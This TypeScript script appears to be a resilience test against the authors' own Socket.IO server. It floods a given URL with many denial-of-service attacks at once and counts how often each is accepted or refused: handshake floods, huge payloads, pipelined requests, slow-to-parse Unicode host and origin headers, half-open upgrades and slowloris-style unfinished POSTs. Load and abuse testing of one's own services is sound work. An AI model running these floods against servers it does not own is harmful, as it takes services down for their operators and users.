/**
 * One attacker without a token, as a program: `bun attacker.ts URL SECONDS`. It does all that it can think of at once and
 * as fast as it can, and prints how often it did what.
 */
import { connect as connectTcp } from "node:net"
import { frames, RawPolling, RawSocket } from "./raw.ts"

const [url = "", seconds = "30"] = process.argv.slice(2)
const endMs = performance.now() + Number(seconds) * 1_000
const done: Record<string, number> = {}
const { hostname, port } = new URL(url)
const separator = "\x1e"

/** What takes long to put into order, when it is read as the name of a host. */
const marks = `${"%CC%87".repeat(1_000)}${"%CC%A3".repeat(1_000)}`

const floods = {
  pongPayload: Array(4_096).fill("3").join(separator),
  hugePayload: "x".repeat(10_000_000),
  separators: separator.repeat(250_000),
  entries: Array(4_000).fill("40").join(separator),
  pongs: frames("3", 10_000),
  probes: frames("2probe", 1_000),
  pings: frames("x".repeat(125), 2_000, 9),
  pipelined: Buffer.from("GET /readyz HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(5_000)),
  hosts: Buffer.from(`GET /healthz HTTP/1.1\r\nHost: a${marks}\r\n\r\n`.repeat(100)),
  origins: Buffer.from(
    `GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\nOrigin: http://a${marks}\r\n\r\n`.repeat(
      100,
    ),
  ),
  requests: frames(
    `421${JSON.stringify(["join_room", { roomId: crypto.randomUUID(), userId: "x", username: "x" }])}`,
    1_000,
  ),
}

/** Each is done by so many at once. */
const attacks: Record<string, [at: number, attack: () => Promise<void>]> = {
  handshakes: [
    16,
    async () => {
      const response = await fetch(`${url}/socket.io/?EIO=4&transport=polling`)
      await response.arrayBuffer()
      if (!response.ok) throw new Error("refused")
    },
  ],
  "websocket handshakes": [
    8,
    async () => {
      await using socket = new RawSocket(url)
      if (!(await socket.response).includes(" 101 ")) throw new Error("refused")
    },
  ],
  "pongs by POST": [2, () => withSession((session) => repeat(50, () => session.post(floods.pongPayload)))],
  "pongs by websocket": [2, () => flood(floods.pongs, 200)],
  "huge payloads": [2, () => withSession((session) => session.post(floods.hugePayload))],
  "many small packets": [2, () => withSession((session) => session.post(floods.separators))],
  "entries without end": [2, () => withSession((session) => session.post(floods.entries))],
  "half-open upgrades": [2, () => withSession(({ sid }) => flood(floods.probes, 1, { sid }))],
  "pings before an upgrade": [2, () => withSession(({ sid }) => flood(floods.pings, 50, { sid }))],
  "pipelined requests": [2, () => pour(floods.pipelined)],
  "hosts that are long to read": [2, () => pour(floods.hosts)],
  "origins that are long to read": [2, () => pour(floods.origins)],
  "requests without end": [2, () => flood(floods.requests, 50, { enters: true })],
  "pings that are not read": [2, () => flood(floods.pings, 50, { reads: false })],
  "requests that do not end": [
    50,
    async () => {
      const tcp = connectTcp(Number(port), hostname)
      tcp.on("error", () => {})
      tcp.write(
        "POST /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\nContent-Length: 200000\r\n\r\nx",
      )
      await Bun.sleep(1_000)
      tcp.destroy()
    },
  ],
}

async function repeat(times: number, act: () => Promise<Response>): Promise<void> {
  for (let i = 0; i < times; i++) if (!(await act()).ok) throw new Error("refused")
}

/** Writes as fast as it is taken, until the server has had enough. */
async function flood(
  bytes: Buffer,
  times: number,
  { sid, enters = false, reads = true }: { sid?: string; enters?: boolean; reads?: boolean } = {},
): Promise<void> {
  await using socket = new RawSocket(url, { ...(sid !== undefined && { sid }) })
  if (!(await socket.response).includes(" 101 ")) throw new Error("refused")
  if (enters) await Promise.race([socket.enter(), socket.closed, Bun.sleep(1_000)])
  if (!reads) socket.stopReading()
  let isClosed = false
  void socket.closed.then(() => {
    isClosed = true
  })
  for (let i = 0; i < times && !isClosed; i++) {
    socket.write(bytes)
    while (socket.bytesUnsent > 1_000_000 && !isClosed) await Bun.sleep(1)
    await Bun.sleep(0)
  }
  await Promise.race([socket.closed, Bun.sleep(500)])
}

/** Writes it on a bare connection, and waits for its end. */
async function pour(bytes: Buffer): Promise<void> {
  const tcp = connectTcp(Number(port), hostname)
  tcp.on("error", () => {})
  tcp.on("data", () => {})
  tcp.write(bytes)
  await Promise.race([new Promise((resolve) => tcp.once("close", resolve)), Bun.sleep(1_000)])
  tcp.destroy()
}

async function withSession(attack: (session: RawPolling) => Promise<unknown>): Promise<void> {
  await attack(await RawPolling.open(url))
}

async function work(name: string, attack: () => Promise<void>): Promise<void> {
  while (performance.now() < endMs) {
    const label = await attack().then(
      () => name,
      () => `${name}, refused`,
    )
    done[label] = (done[label] ?? 0) + 1
    // A refusal at once is not to become a loop that lets nothing else run.
    await Bun.sleep(1)
  }
}

await Promise.all(
  Object.entries(attacks).flatMap(([name, [at, attack]]) => Array.from({ length: at }, () => work(name, attack))),
)
console.log(JSON.stringify(done))
process.exit()
